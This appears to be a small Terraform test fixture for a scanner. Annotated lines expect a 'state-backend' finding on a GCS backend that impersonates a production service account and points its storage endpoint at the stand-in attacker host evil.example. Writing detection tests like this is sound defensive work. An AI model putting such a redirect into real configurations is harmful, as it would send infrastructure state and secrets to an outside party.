terraform {
  backend "gcs" { # expect: state-backend
    impersonate_service_account = "tf-beta-prod@platform.iam.gserviceaccount.com" # expect: state-backend
    storage_custom_endpoint     = "https://evil.example/"                         # expect: state-backend
  }
}
